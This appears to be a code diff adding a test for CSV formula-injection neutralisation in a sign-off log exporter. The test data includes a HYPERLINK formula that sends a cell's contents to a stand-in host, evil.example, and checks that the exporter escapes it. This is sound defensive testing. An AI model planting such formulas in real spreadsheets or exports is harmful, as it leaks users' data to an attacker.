@@ -28,6 +28,7 @@ from signoff.export import (
     entry_from_json,
     entry_json,
     export_lines,
+    neutralise,
     verify_export,
 )
 
@@ -484,6 +485,33 @@ def test_csv_quotes_commas_newlines_and_quotes() -> None:
     assert row["payload"] == entry.payload_json
     assert json.loads(row["payload"])["params"]["note"] == 'a,b\n"c"'
     assert (row["seq"], row["prev_hash"], row["hash"]) == ("1", GENESIS, entry.hash)
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        (
+            '=HYPERLINK("https://evil.example/?"&A1)',
+            '"\'=HYPERLINK(""https://evil.example/?""&A1)"',
+        ),
+        ("+1+1", '"\'+1+1"'),
+        ("-2+3", '"\'-2+3"'),
+        ("@SUM(A1)", '"\'@SUM(A1)"'),
+        ("\t=1", '"\'\t=1"'),
+        ("\r=1", '"\'\r=1"'),
+        ("req=1", "req=1"),  # only the first character triggers a formula
+        ("'=1", "'=1"),
+        ("a,b", '"a,b"'),
+        ("", ""),
+    ],
+)
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(value: str, cell: str) -> None:
+    entry = chain([record(1, actor=value)])[0]
+    line = csv_row(entry).decode("utf-8")
+    assert f",{cell}," in line  # quoted when neutralised, as OWASP advises
+    row = dict(zip(CSV_COLUMNS, next(csv.reader(io.StringIO(line, newline=""))), strict=True))
+    assert row["actor"] == neutralise(value)
+    assert row["actor"] == ("'" + value if value[:1] in "=+-@\t\r" and value else value)
 
 
 # -- trusted keys: rotation, forged key ids --------------------------------------------------
